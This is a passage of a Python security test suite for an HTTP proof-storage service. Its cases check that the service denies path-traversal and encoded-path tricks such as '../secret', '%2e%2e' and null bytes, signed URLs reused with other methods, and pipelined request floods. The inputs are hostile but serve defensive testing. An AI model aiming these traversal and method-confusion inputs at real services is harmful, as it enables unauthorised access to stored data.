    cases += [Case(f"without a credential: {s.splitlines()[0][:60]!r}, {n}", s, DENIED | {0, 200} if s.startswith(b"OPTIONS") else DENIED | {0}, service=CLOSED) for n, s in enumerate(elsewhere)]
    return cases


def signed() -> list[Case]:
    paths = ["/v1/signed//secret", "/v1/signed/A/secret", "/v1/signed/../secret", "/v1/signed/%2e%2e/secret", "/v1/signed/{signed}", "/v1/signed/{signed}/", "/v1/signed/{signed}/Secret", "/v1/signed/{signed}/secret/", "/v1/signed/{signed}/secret%2f",
             "/v1/signed/{signed}//secret", "/v1/signed/{signed}/secret%00", "/v1/signed/{signed}/./secret", "/v1/signed/{signed}/a/../secret", "/v1/signed/{signed}/secret2", "/v1/signed/{signed}=/secret", "/v1/signed/{signed}A/secret",
             "/v1/signed/{signed}%20/secret", "/v1/signed/%20{signed}/secret", "/v1/signed/{signed}{signed}/secret", "/v1/signed/{signed}/{signed}/secret", "/v1/signed/{signed},/secret", "/v1/signed/" + "A" * 50_000 + "/secret",
             "/v1/signed/%ff/secret", "/v1/signed/{signed}/%ff", "/v1/signed/{signed}/.proof-storage/x", "/v1/signed/{signed}/secret?method=PUT", "/v1/signed/{signed}/secret?x", "/v1/proofs/secret?token={signed}"]
    cases = [Case(f"signed path {p[:60]}", get(p), DENIED, service=CLOSED) for p in paths]
    cases += [
        Case("signed for GET, used for PUT", put(body="x", target="{url}"), DENIED, service=CLOSED),
        Case("signed for GET, used for DELETE", request("DELETE", "{url}"), DENIED, service=CLOSED),
        Case("signed for GET, used for POST", request("POST", "{url}", body="x"), DENIED, service=CLOSED),
        Case("signed and a token", get("{url}", "Authorization: Bearer {token}"), DENIED, service=CLOSED),
        Case("signed and an empty token", get("{url}", "Authorization:"), DENIED, service=CLOSED),
    ]
    return cases


def pipelines() -> list[Case]:
    health = get("/health")
    return [
        Case("100 at once", health * 99 + get("/health", "Connection: close"), frozenset({200}), answers=100),
        Case("refused in the middle", health + get("/v1/proofs/a//b") + get("/health", "Connection: close"), frozenset({200, 400}), answers=3),
        Case("broken in the middle", health + b"BROKEN\r\n\r\n" + text("{hidden}"), frozenset({200, 400}), answers=2),
        Case("2 000 at once, and gone", health * 2000, frozenset({200}), answers=2000),
        Case("line ends between", health + b"\r\n\r\n" + get("/health", "Connection: close"), frozenset({200, 400}), answers=2),
        Case("half a request at the end", health + b"GET /hea", frozenset({0, 200, 400, 408}), answers=2),
    ]


def all_cases() -> list[Case]:
    groups = (transfer_encodings, lengths, chunks, request_lines, fields, keys, reads, writes, bodies, credentials, signed, pipelines)
    return [case for group in groups for case in group()]
